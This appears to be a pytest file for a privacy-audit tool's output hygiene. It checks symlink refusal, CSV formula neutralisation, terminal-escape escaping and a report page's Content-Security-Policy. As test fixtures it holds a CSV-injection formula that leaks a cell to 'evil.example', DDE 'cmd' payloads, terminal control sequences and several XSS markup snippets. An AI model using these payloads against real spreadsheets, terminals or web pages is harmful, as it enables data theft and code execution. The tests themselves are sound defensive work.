"""Output hygiene, each test an attack from a received folder, storage or study: a link planted in an output folder
is never written through, a stored string never becomes a spreadsheet formula, a terminal control sequence, a
mathtext crash, or a script the report's page runs."""

from __future__ import annotations

import importlib
import io
import os
import re
import subprocess
from pathlib import Path

import optuna
import pandas as pd
import pytest
import report_study
from optuna.distributions import CategoricalDistribution
from test_report_browser import CHROMIUM, FLAGS, chromium  # noqa: F401  (chromium: a fixture)

from search._runs import result_documents, save_results
from search.cli import main
from search.cli._common import printable
from search.results._html import content_security_policy
from search.results._report import plain, write_report
from search.study import open_study
from wemem.config import ExperimentConfig
from wemem.files import csv_text, write_into

TARGET = "outside: must stay as it is\n"
TITLE_CHANGE = "\x1b]0;pwned\x07"  # xterm's "set the window title"
CLEAR_SCREEN = "\x1b[2J"
MATH = "$\\frac{$"  # two dollars: matplotlib would parse it as mathtext, and reject it
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)


def run_cli(argv: list[str]) -> int:
    try:
        return main(argv)
    except SystemExit as exit_info:  # argparse's own errors
        return int(exit_info.code)


def planted(folder: Path, name: str) -> tuple[Path, Path]:
    """``folder/name`` made a link to a file outside ``folder``; returns (link, target)."""
    folder.mkdir(parents=True, exist_ok=True)
    target = folder.parent / f"target-of-{name}.txt"
    target.write_text(TARGET)
    os.symlink(Path("..") / target.name, folder / name)
    return folder / name, target


def hostile_trial(study: optuna.Study, defense: str, attack: str, param: str, privacy: float = 0.5) -> None:
    """A completed trial, best of the study, whose every stored string is ``defense``, ``attack`` or ``param``."""
    study.add_trial(
        optuna.trial.create_trial(
            params={f"{defense}.{param}": param},
            distributions={f"{defense}.{param}": CategoricalDistribution([param])},
            values=[privacy],
            constraints={"utility_drop": -0.1},
            user_attrs={
                "defense": defense,
                "settings": {param: param},
                "utility": 0.81,
                "privacy": privacy,
                "strongest_attack": attack,
                "feasible": True,
                "defense_seconds": 1.0,
                "attacks": {attack: report_study.attack_metrics(0.5)["conf"]},
                "timings": report_study.timings(10.0),
            },
        )
    )


# ------------------------------------------------------------------------------- links planted in --out


def test_report_refuses_a_link_planted_in_its_out_folder(tmp_path: Path, capsys):
    options = report_study.build(tmp_path)
    link, target = planted(tmp_path / "rep", "report.html")
    assert run_cli(["report", "audit", "--storage", options.storage, "--out", str(tmp_path / "rep")]) == 2
    err = capsys.readouterr().err
    assert f"cannot write {link}: it is a link to ../{target.name}" in err and "remove the link" in err
    assert target.read_text() == TARGET and link.is_symlink()
    assert sorted(p.name for p in (tmp_path / "rep").iterdir()) == ["report.html"]  # nothing written


def test_a_link_planted_while_the_report_is_written_is_replaced_not_followed(tmp_path: Path):
    options = report_study.build(tmp_path, trials=1, confirmed=False)
    link, target = planted(tmp_path / "rep", "trials.csv")
    write_report(open_study("audit", options), tmp_path / "rep")  # no check first: as the Python API writes
    assert target.read_text() == TARGET
    assert not link.is_symlink() and link.read_text().startswith("number,state,defense")


def test_the_out_folder_itself_may_be_a_link_the_user_chose(tmp_path: Path):
    (tmp_path / "real").mkdir()
    os.symlink(tmp_path / "real", tmp_path / "alias")
    assert not write_into(tmp_path / "alias", "a.json", "{}")
    assert (tmp_path / "real" / "a.json").read_text() == "{}" and (tmp_path / "alias").is_symlink()


def test_no_file_name_reaches_through_a_subfolder(tmp_path: Path):
    """wemem creates no subfolder in an output folder: a name with a folder (perhaps a planted link) is refused."""
    os.symlink("/", tmp_path / "sub")
    for name in ("sub/x.json", "..", ""):
        with pytest.raises(ValueError, match="one file name"):
            write_into(tmp_path, name, "{}")


def test_apply_refuses_a_link_planted_in_its_out_folder_before_any_work(tmp_path: Path, capsys):
    link, target = planted(tmp_path / "applied", "model.pt")
    code = run_cli(
        [
            "apply",
            str(tmp_path / "never-read.toml"),
            "--out",
            str(tmp_path / "applied"),
            "--storage",
            f"sqlite:///{tmp_path / 'wemem.db'}",
        ]
    )
    err = capsys.readouterr().err
    assert code == 2 and f"cannot write {link}: it is a link to ../{target.name}" in err, err
    assert target.read_text() == TARGET and link.is_symlink()


def test_run_refuses_a_link_planted_beside_its_results_before_any_work(tmp_path: Path, capsys):
    link, target = planted(tmp_path / "out", "results.csv")
    code = run_cli(
        [
            "run",
            "--serial",
            "--out",
            str(tmp_path / "out" / "results"),
            "--cache-dir",
            str(tmp_path / "cache"),
            "--storage",
            f"sqlite:///{tmp_path / 'wemem.db'}",
        ]
    )
    err = capsys.readouterr().err
    assert code == 2 and f"cannot write {link}: it is a link to ../{target.name}" in err, err
    assert target.read_text() == TARGET and not (tmp_path / "cache").exists()


def test_a_link_planted_while_run_works_is_replaced_not_followed(tmp_path: Path):
    link, target = planted(tmp_path / "out", "results.json")
    assert save_results(tmp_path / "out" / "results", ["{}", "run\n"]).startswith("wrote")
    assert target.read_text() == TARGET and not link.is_symlink() and link.read_text() == "{}"


# ------------------------------------------------------------------------------------ formulas in CSVs


def assert_neutralized(frame: pd.DataFrame, column: str) -> None:
    assert list(frame[column]) == ["'" + text for text in FORMULAS]


def test_formulas_stored_in_a_study_are_text_in_trials_csv(tmp_path: Path):
    options = report_study.build(tmp_path, trials=0, failed=0, confirmed=False)
    study = open_study("audit", options).study
    for i, text in enumerate(FORMULAS):
        hostile_trial(study, defense=text, attack=text, param=text, privacy=-(i + 1) / 10)
    write_report(open_study("audit", options), tmp_path / "rep")
    table = pd.read_csv(tmp_path / "rep" / "trials.csv")
    assert_neutralized(table, "defense")
    assert_neutralized(table, "strongest_attack")
    assert all(column[0] not in "=+-@" for column in table.columns)  # parameter and attack names head columns
    assert table["privacy"].dtype == float and list(table["privacy"]) == [-0.1, -0.2, -0.3, -0.4]
    assert table["number"].dtype == int


def test_formulas_in_run_results_are_text_in_its_csv():
    table = pd.DataFrame(
        {
            "run": list(FORMULAS),
            "defense": list(FORMULAS),
            "sparsity": [-0.5, 0.0, 0.5, 1.0],
            "member_targets": [-2, 3, 4, 5],
            "attack": ["conf"] * 4,
        }
    )
    written = pd.read_csv(io.StringIO(result_documents(ExperimentConfig(), [], [], table)[1]))
    assert_neutralized(written, "run")
    assert_neutralized(written, "defense")
    assert written["sparsity"].dtype == float and written["sparsity"][0] == -0.5
    assert written["member_targets"].dtype == int and written["member_targets"][0] == -2
    assert list(written["attack"]) == ["conf"] * 4 and list(table["run"]) == list(FORMULAS)  # the caller's as is


def test_every_formula_start_is_neutralized_in_a_text_column_and_a_header():
    cells = ["=1", "+1", "-1", "@1", "\t=1", "\r=1", "plain", None, "a\r=1", "b\n=1"]
    text = csv_text(pd.DataFrame({"=cmd": cells, "n": range(len(cells))}), index=False)
    assert text.startswith("'=cmd,n\r\n")
    assert '"a\r=1"' in text and '"b\n=1"' in text  # quoted: a line break inside a cell starts no row of its own
    assert list(pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False)["'=cmd"]) == [
        "'=1",
        "'+1",
        "'-1",
        "'@1",
        "'\t=1",
        "'\r=1",
        "plain",
        "",
        "a\r=1",
        "b\n=1",
    ]


# ------------------------------------------------------------------------------- the terminal, the plots


def test_status_prints_control_sequences_from_the_storage_escaped(tmp_path: Path, capsys):
    hostile = f"{TITLE_CHANGE}rsw{CLEAR_SCREEN}"
    options = report_study.build(tmp_path, fail_reason=f"boom{TITLE_CHANGE}{CLEAR_SCREEN}\x9b2J\r")
    hostile_trial(open_study("audit", options).study, defense=hostile, attack=hostile, param="p", privacy=0.1)
    for argv in (["status", "audit"], ["status", "audit", "--trial", "4"], ["status"]):
        assert run_cli([*argv, "--storage", options.storage]) == 0
        out, err = capsys.readouterr()
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out + err), out + err
    assert run_cli(["status", "audit", "--storage", options.storage]) == 0
    out = capsys.readouterr().out
    assert r"best trial #4: defense \x1b]0;pwned\x07rsw\x1b[2J" in out  # visible, inert
    assert r"(boom\x1b]0;pwned\x07\x1b[2J\x9b2J\x0d)" in out


def test_printable_keeps_newlines_tabs_and_other_text():
    assert printable("a\tb\nc é ✓ \x1b[31m\x00\x7f") == "a\tb\nc é ✓ \\x1b[31m\\x00\\x7f"


def test_a_defense_and_an_attack_named_like_mathtext_render_a_report(tmp_path: Path):
    options = report_study.build(tmp_path, trials=2)
    hostile_trial(open_study("audit", options).study, defense=MATH, attack=MATH, param=MATH, privacy=0.1)
    hostile_trial(open_study("audit", options).study, defense="rsw", attack=MATH, param="q", privacy=0.7)
    written = {path.name for path in write_report(open_study("audit", options), tmp_path / "rep")}
    assert {"privacy_utility.png", "attacks.png", "roc.png", "importance.png", "timings.png"} <= written
    assert plain(MATH) == "\\$\\frac{\\$"


# ----------------------------------------------------------------------------- the page's own policy


@pytest.fixture(scope="module")
def report_page(tmp_path_factory: pytest.TempPathFactory) -> str:
    place = tmp_path_factory.mktemp("policy")
    write_report(open_study("audit", report_study.build(place)), place / "rep")
    return (place / "rep" / "report.html").read_text()


def console(chromium: str, page: str, work: Path) -> tuple[str, str]:
    """Headless Chromium's DOM of ``page`` (opened sorted by leakage, to see the page's own script run) and its
    console, where each Content-Security-Policy violation is reported."""
    path = work / f"page-{len(list(work.glob('page-*')))}.html"
    path.write_text(page)
    done = subprocess.run(
        [
            chromium,
            *FLAGS,
            f"--user-data-dir={work / 'profile'}",
            "--enable-logging=stderr",
            "--log-level=0",
            "--dump-dom",
            path.as_uri() + "#sort=-privacy",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout, done.stderr


# each would append a word to the title if it ran: a script, and handlers firing without a click
INJECTED = (
    '<script>document.title += " script"</script>'
    '<button onclick="document.title += \' click\'" autofocus onfocus="this.click()">x</button>'
    '<img src="data:," onerror="document.title += \' onerror\'">'
    "<svg onload=\"document.title += ' svg'\"></svg>"
    "<details open ontoggle=\"document.title += ' toggle'\"><summary>x</summary></details>"
)


def title(dom: str) -> str:
    return re.search(r"<title>(.*?)</title>", dom).group(1)


def sorted_by_leakage(dom: str) -> bool:
    return 'data-column="privacy" aria-sort="descending"' in dom


def test_the_pages_own_style_and_sort_script_run_under_its_policy(chromium, report_page: str, tmp_path: Path):
    dom, log = console(chromium, report_page, tmp_path)
    assert sorted_by_leakage(dom)
    assert "Content Security Policy" not in log  # the hashes admit the page's <style> and <script>


def test_an_injected_script_or_inline_handler_does_not_run_under_the_pages_policy(
    chromium, report_page: str, tmp_path: Path
):
    csp = f'<meta http-equiv="Content-Security-Policy" content="{content_security_policy()}">'
    assert csp in report_page
    attacked = report_page.replace("<body>", f"<body>{INJECTED}", 1)
    dom, log = console(chromium, attacked, tmp_path)
    assert title(dom) == "wemem audit: audit" and sorted_by_leakage(dom)
    assert "violates the following Content Security Policy directive 'script-src" in log
    # the check can fail: without the policy the same markup runs
    dom, _ = console(chromium, attacked.replace(csp, ""), tmp_path)
    assert {"script", "click", "onerror", "svg"} <= set(title(dom).split())


def test_nothing_in_the_page_navigates(report_page: str):
    """``navigate-to`` exists in no browser, and ``frame-ancestors`` is ignored in a <meta> policy: the page
    itself must hold nothing that leaves it."""
    policy = content_security_policy()
    assert "'unsafe-inline'" not in policy and "form-action 'none'" in policy and "base-uri 'none'" in policy
    assert all(href.startswith("#") for href in re.findall(r'href="([^"]*)"', report_page))
    assert not re.search(r"http-equiv=\W*refresh", report_page, re.I)
    assert "<form" not in report_page and "<base" not in report_page


def with_handler(monkeypatch, cli, handler) -> None:
    """``wemem status`` running ``handler`` instead (the command line's own handling around it unchanged)."""
    import dataclasses

    monkeypatch.setattr(
        cli, "COMMANDS", tuple(dataclasses.replace(c, run=handler) if c.name == "status" else c for c in cli.COMMANDS)
    )


def test_a_warning_naming_a_received_column_prints_escaped(tmp_path, monkeypatch, capsys):
    """A table's column named like a membership mark is named in a warning: escaped like every printed line, and
    the caller's warning display is restored afterwards."""
    import warnings

    cli = importlib.import_module("search.cli._main")  # the module (search.cli._main is also the function)

    before = warnings.showwarning

    def handler(args):
        warnings.warn("column 'train\x1b[2J' looks like a membership mark", UserWarning, stacklevel=1)
        return 0

    with_handler(monkeypatch, cli, handler)
    assert cli.main(["status", "--storage", f"sqlite:///{tmp_path / 'x.db'}"]) == 0
    err = capsys.readouterr().err
    assert "\x1b" not in err and "train\\x1b[2J" in err and "UserWarning" in err
    assert warnings.showwarning is before


def test_input_nested_too_deep_exits_2(tmp_path, monkeypatch, capsys):
    cli = importlib.import_module("search.cli._main")  # the module (search.cli._main is also the function)

    def handler(args):
        raise RecursionError("maximum recursion depth exceeded")

    with_handler(monkeypatch, cli, handler)
    assert cli.main(["status", "--storage", f"sqlite:///{tmp_path / 'x.db'}"]) == 2
    assert "nested too deep" in capsys.readouterr().err
